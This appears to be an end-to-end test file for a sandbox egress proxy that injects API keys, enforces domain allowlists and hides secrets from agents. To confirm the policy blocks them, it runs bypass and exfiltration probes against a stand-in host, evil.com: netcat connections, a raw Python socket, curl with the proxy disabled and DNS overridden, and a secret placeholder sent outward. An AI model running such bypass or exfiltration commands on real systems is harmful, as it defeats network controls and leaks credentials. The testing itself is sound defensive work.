// An agent calls APIs without holding their keys: a sandbox created through the unmodified
// @blaxel/core with the full network example of Blaxel's docs (Sandboxes/Proxy.md) gets its
// requests' credentials injected by the egress proxy, reaches only its allowed domains (also when
// a program ignores the proxy and opens its own sockets), has its policy replaced live, and never
// sees a secret — nor does any API response. "The internet" is a stand-in in a network namespace
// with its own CA and DNS.

import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DOCS_EXAMPLE, FakeInternet } from "@hangar/egress-proxy/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type RunningHangar, api, startHangar, useSdkAgainst } from "./harness.js";

const STRIPE_KEY = "sk-live-abc123...";
const OPENAI_KEY = "sk-proj-xyz789...";
/** Matches the docs' secrets without containing them (a grep's own command line must not match). */
const SECRET_RE = "sk-live-abc12[3]|sk-proj-xyz78[9]|n3w-0pen41-k[e]y";

let h: RunningHangar;
let net: FakeInternet;
let dir: string;
let SandboxInstance: typeof import("@blaxel/core").SandboxInstance;
type Sandbox = Awaited<ReturnType<typeof SandboxInstance.get>>;
let sb: Sandbox;

async function sh(s: Sandbox, command: string): Promise<{ stdout: string; stderr: string; exitCode: number }> {
  const r = await s.process.exec({ command, waitForCompletion: true });
  return { stdout: r.stdout ?? "", stderr: r.stderr ?? "", exitCode: r.exitCode ?? -1 };
}

async function lastRequestTo(host: string) {
  return (await net.requests()).filter((r) => r.host === host).pop();
}

beforeAll(async () => {
  net = await FakeInternet.start({
    name: "ege2e",
    subnet: "198.51.100.0/25",
    hosts: [{ names: ["api.stripe.com"] }, { names: ["api.openai.com"], h1only: true }, { names: ["httpbin.org"] }, { names: ["evil.com"] }, { names: ["s3.amazonaws.com", "*.s3.amazonaws.com"] }],
  });
  dir = mkdtempSync(join(tmpdir(), "hangar-e2e-egress-"));
  writeFileSync(join(dir, "internet-ca.pem"), net.ca.certPem);
  h = await startHangar({
    env: {
      // the stand-in internet's DNS and CA (an operator's corporate CA would go here too)
      HANGAR_SANDBOX_DNS: net.dns,
      HANGAR_EGRESS_CA_FILES: join(dir, "internet-ca.pem"),
      // a network of its own: other servers' tables and slots are left alone
      HANGAR_NETWORK_PREFIX: "hge",
      HANGAR_NETWORK_TABLE: "hangar_e2e_egress",
      HANGAR_SANDBOX_CIDR: "10.231.0.0/24",
      // the docs' example names a region: this node serves it
      HANGAR_REGIONS: "local-1,us-was-1",
    },
  });
  useSdkAgainst(h);
  ({ SandboxInstance } = await import("@blaxel/core"));
  sb = await SandboxInstance.create({
    name: "agent-workspace",
    image: "blaxel/base-image:latest",
    region: "us-was-1",
    memory: 1024,
    labels: { team: "ml", env: "staging" },
    network: DOCS_EXAMPLE,
  } as never);
}, 300_000);

afterAll(async () => {
  await h?.dispose();
  // the server keeps its nft table across restarts; this one is the test's
  execFileSync("sh", ["-c", "nft delete table inet hangar_e2e_egress 2>/dev/null || true"]);
  await net?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe("calling APIs without holding the keys", () => {
  it("injects the docs' headers and body for api.stripe.com, and the sandbox only sees [REDACTED]", async () => {
    // the docs' own command
    let r = await sh(sb, "curl -s https://api.stripe.com/v1/charges");
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toContain('"authorization":"Bearer [REDACTED]"');
    expect(r.stdout).toContain('"stripe-version":"2024-12-18.acacia"');
    expect(r.stdout).toMatch(/"x-blaxel-request-id":"[0-9a-f-]{36}"/);
    let got = await lastRequestTo("api.stripe.com");
    expect(got?.headers.authorization).toBe(`Bearer ${STRIPE_KEY}`);
    // POST: the body gets api_key, the sandbox's own fields are kept (and win)
    r = await sh(sb, `curl -s https://api.stripe.com/v1/charges -H 'content-type: application/json' -d '{"amount":2000,"currency":"usd"}'`);
    got = await lastRequestTo("api.stripe.com");
    expect(JSON.parse(got!.body)).toEqual({ amount: 2000, currency: "usd", api_key: STRIPE_KEY });
    await sh(sb, `curl -s https://api.stripe.com/v1/charges -H 'Stripe-Version: 2020-08-27' -d 'amount=100&api_key=mine'`);
    got = await lastRequestTo("api.stripe.com");
    expect(got?.headers["stripe-version"]).toBe("2020-08-27");
    expect(Object.fromEntries(new URLSearchParams(got!.body))).toEqual({ amount: "100", api_key: "mine" });
  });

  it("keeps each rule's secrets to its own destinations", async () => {
    const r = await sh(sb, "curl -s https://api.openai.com/v1/models -H 'X-Probe: {{SECRET:stripe-key}}'");
    expect(r.exitCode).toBe(0);
    const got = await lastRequestTo("api.openai.com");
    expect(got?.headers).toMatchObject({ authorization: `Bearer ${OPENAI_KEY}`, "openai-organization": "org-abc123", "x-probe": "{{SECRET:stripe-key}}" });
    expect(got?.headers["stripe-version"]).toBeUndefined();
    // placeholders the sandbox sends are resolved from the matching rule only
    await sh(sb, "curl -s https://api.stripe.com/v1/echo -H 'X-Own: key={{SECRET:stripe-key}}'");
    expect((await lastRequestTo("api.stripe.com"))?.headers["x-own"]).toBe(`key=${STRIPE_KEY}`);
    // allowed without a rule: tunnelled untouched
    await net.clearRequests();
    expect((await sh(sb, "curl -s https://httpbin.org/get")).exitCode).toBe(0);
    const plain = await lastRequestTo("httpbin.org");
    expect(plain?.headers.authorization).toBeUndefined();
    expect(plain?.headers["x-blaxel-request-id"]).toBeUndefined();
  });

  it("blocks what allowedDomains does not list, with a reason, and lets bypass domains go direct", async () => {
    const r = await sh(sb, "curl -sS https://evil.com/ 2>&1; echo exit=$?; curl -s http://evil.com/");
    expect(r.stdout).toContain("CONNECT tunnel failed, response 403");
    expect(r.stdout).toContain("exit=56");
    expect(r.stdout).toContain("Hangar egress proxy: evil.com is not allowed by this sandbox's network policy: it is not in allowedDomains");
    expect(await lastRequestTo("evil.com")).toBeUndefined();
    const env = await sh(sb, "echo $NO_PROXY; echo $SSL_CERT_FILE $NODE_EXTRA_CA_CERTS $REQUESTS_CA_BUNDLE; test -n \"$HTTPS_PROXY\" && echo proxied");
    expect(env.stdout).toContain("localhost,127.0.0.1,::1,10.0.0.0/8,172.16.0.0/12,192.168.0.0/16,169.254.169.254,.local,.internal,.s3.amazonaws.com");
    expect(env.stdout).toContain("/.hangar/ca/bundle.crt /.hangar/ca/ca.crt /.hangar/ca/bundle.crt");
    expect(env.stdout).toContain("proxied");
    const bypass = await sh(sb, "curl -s https://data.s3.amazonaws.com/object");
    expect(bypass.stdout).toContain('"host":"data.s3.amazonaws.com"');
    expect(bypass.stdout).not.toContain("x-blaxel-request-id");
    // *.s3.amazonaws.com does not cover s3.amazonaws.com (curl's NO_PROXY sends it direct, where it does not resolve)
    const apex = await sh(sb, "curl -sS https://s3.amazonaws.com/ 2>&1");
    expect(apex.stdout).toContain("Could not resolve host: s3.amazonaws.com");
    expect(await lastRequestTo("s3.amazonaws.com")).toBeUndefined();
  });

  it("stops programs that ignore the proxy and open their own sockets", async () => {
    const evil = net.ipOf("evil.com");
    const r = await sh(
      sb,
      [
        `nc -w 1 evil.com 9000; echo nc=$?`,
        `nc -w 1 ${evil} 9000; echo ncip=$?`,
        `nc -w 1 httpbin.org 9000; echo ncallowed=$?`,
        `python3 -c "import socket; s=socket.create_connection(('${evil}', 443), 2); s.sendall(b'\\x16\\x03\\x01\\x00\\x01\\x01'); print('sent', s.recv(10))" 2>&1 | tail -1`,
        `curl -sS --noproxy '*' --resolve evil.com:443:${evil} https://evil.com/ ; echo`,
        `curl -sS --noproxy '*' --resolve api.stripe.com:443:${evil} https://api.stripe.com/fronted`,
      ].join("; "),
    );
    expect(r.stdout).not.toContain("hello from");
    expect(r.stdout).toMatch(/nc=1[\s\S]*ncip=1[\s\S]*ncallowed=1/);
    // names outside the policy do not even resolve (DNS goes to the proxy too)
    const dns = await sh(sb, "getent hosts api.stripe.com; getent hosts evil.com || echo evil=NXDOMAIN");
    expect(dns.stdout).toContain(net.ipOf("api.stripe.com"));
    expect(dns.stdout).toContain("evil=NXDOMAIN");
    expect(r.stdout).not.toContain("sent b'HTTP");
    expect(r.stdout).toContain("evil.com is not allowed by this sandbox's network policy");
    // SNI says api.stripe.com, so the proxy goes to api.stripe.com, not to the address the program chose
    expect(r.stdout).toContain('"servedBy":"api.stripe.com"');
    expect(await lastRequestTo("evil.com")).toBeUndefined();
    // Node has no proxy support of its own: its HTTPS is redirected and still gets the key injected
    const node = await sh(sb, `node -e 'require("https").get("https://api.stripe.com/from-node", (res) => { let b = ""; res.on("data", (d) => (b += d)); res.on("end", () => console.log(res.statusCode, JSON.parse(b).headers.authorization)); })'`);
    expect(node.stdout.trim()).toBe("200 Bearer [REDACTED]");
    expect((await lastRequestTo("api.stripe.com"))?.headers.authorization).toBe(`Bearer ${STRIPE_KEY}`);
    // git and Python's HTTP stack use the proxy variables and the CA bundle
    const tools = await sh(sb, `git ls-remote https://api.stripe.com/repo.git 2>&1 | head -1; python3 -c 'import urllib.request as u; print(u.urlopen("https://api.openai.com/py").status)'`);
    expect(tools.stdout).not.toMatch(/certificate|SSL/i);
    expect(tools.stdout).toContain("200");
    expect((await net.requests()).some((q) => q.url.startsWith("/repo.git/info/refs") && q.headers.authorization === `Bearer ${STRIPE_KEY}`)).toBe(true);
  });

  it("replaces the policy of the running sandbox through PUT, keeping its files", async () => {
    await sh(sb, "echo kept > /blaxel/marker");
    const updated = await SandboxInstance.updateNetwork("agent-workspace", {
      network: {
        forbiddenDomains: ["httpbin.org"],
        proxy: { routing: [{ destinations: ["evil.com"], headers: { "X-Api-Key": "{{SECRET:new-key}}" }, secrets: { "new-key": "n3w-0pen41-key" } }] },
      },
    } as never);
    expect(JSON.stringify(updated.spec.network)).not.toContain("n3w-0pen41-key");
    sb = await SandboxInstance.get("agent-workspace");
    const r = await sh(sb, "cat /blaxel/marker; curl -s https://evil.com/now; echo; curl -sS https://httpbin.org/ 2>&1; echo exit=$?; curl -s https://api.stripe.com/v1/charges");
    expect(r.stdout).toMatch(/^kept\n/);
    expect(r.stdout).toContain('"servedBy":"evil.com"');
    expect((await lastRequestTo("evil.com"))?.headers["x-api-key"]).toBe("n3w-0pen41-key");
    expect(r.stdout).toMatch(/CONNECT tunnel failed, response 403[\s\S]*exit=56/);
    // the Stripe rule is gone: no key any more
    expect((await lastRequestTo("api.stripe.com"))?.headers.authorization).toBeUndefined();
    // a denylist only: raw sockets are still cut (a name cannot be told from an address)
    expect((await sh(sb, "nc -w 1 evil.com 9000; echo nc=$?")).stdout).toContain("nc=1");
  });

  it("lets a sandbox go direct again when its policy is removed, and refuses bad policies with a clear 400", async () => {
    await SandboxInstance.updateNetwork("agent-workspace", { network: {} } as never);
    sb = await SandboxInstance.get("agent-workspace");
    const r = await sh(sb, "cat /blaxel/marker; echo proxy=$HTTPS_PROXY; nc -w 2 evil.com 9000");
    expect(r.stdout).toBe("kept\nproxy=\nhello from evil.com\n");
    const bad = await api(h, "POST", "/v0/sandboxes", {
      metadata: { name: "bad-net" },
      spec: { network: { allowedDomains: ["https://api.stripe.com/v1"], proxy: { routing: [{ destinations: ["x.com"], headers: { A: "{{SECRET:missing}}" } }] } } },
    });
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { message: string }).message).toMatch(/spec.network.allowedDomains\[0\]: "https:\/\/api.stripe.com\/v1" must be a domain name or IPv4 address, without scheme, port or path/);
    await SandboxInstance.updateNetwork("agent-workspace", { network: DOCS_EXAMPLE } as never);
    sb = await SandboxInstance.get("agent-workspace");
  });

  it("never shows a secret: not in API responses, not inside the sandbox, not at rest in the data dir", async () => {
    await sh(sb, "curl -s https://api.stripe.com/v1/charges -d amount=1 >/dev/null");
    for (const path of ["/v0/sandboxes/agent-workspace", "/v0/sandboxes", "/v0/sandboxes/agent-workspace?show_secrets=true"]) {
      const body = await (await api(h, "GET", path)).text();
      expect(body).not.toMatch(new RegExp(SECRET_RE));
      expect(body).toContain("{{SECRET:stripe-key}}");
    }
    const got = await SandboxInstance.get("agent-workspace");
    const route = (got.spec.network as { proxy: { routing: { headers: Record<string, string>; secrets?: Record<string, string> }[] } }).proxy.routing[0]!;
    expect(route.headers.Authorization).toBe("Bearer {{SECRET:stripe-key}}");
    expect(route.secrets?.["stripe-key"] ?? "").toBe("");
    // inside: environment, every process's environment and command line, the whole filesystem
    const inside = await sh(
      sb,
      [
        `env | grep -cE '${SECRET_RE}'`,
        `cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -cE '${SECRET_RE}'`,
        `ps auxeww | grep -cE '${SECRET_RE}'`,
        `grep -rlE '${SECRET_RE}' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null | wc -l`,
        `curl -s https://api.stripe.com/v1/charges -H 'X-Echo: {{SECRET:stripe-key}}' | grep -cE '${SECRET_RE}'`,
        `curl -s -H 'X-Try: {{SECRET:stripe-key}}' http://evil.com/ | grep -cE '${SECRET_RE}'`,
        // the same search finds what is there (the CA certificates)
        `grep -rlE 'BEGIN CERTIFICAT[E]' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null | grep -c '^/.hangar/ca/'`,
      ].join("; "),
    );
    expect(inside.stdout.trim().split("\n")).toEqual(["0", "0", "0", "0", "0", "0", "2"]);
    // at rest: the store holds them encrypted; no file of the data dir has them in clear
    const hits = execFileSync("sh", ["-c", `grep -rlaE '${SECRET_RE}' '${h.dataDir}' | wc -l`], { encoding: "utf8" });
    expect(hits.trim()).toBe("0");
    expect(statSync(join(h.dataDir, "egress", "ca.key")).mode & 0o777).toBe(0o600);
    expect(h.output()).not.toMatch(new RegExp(SECRET_RE));
  });
});
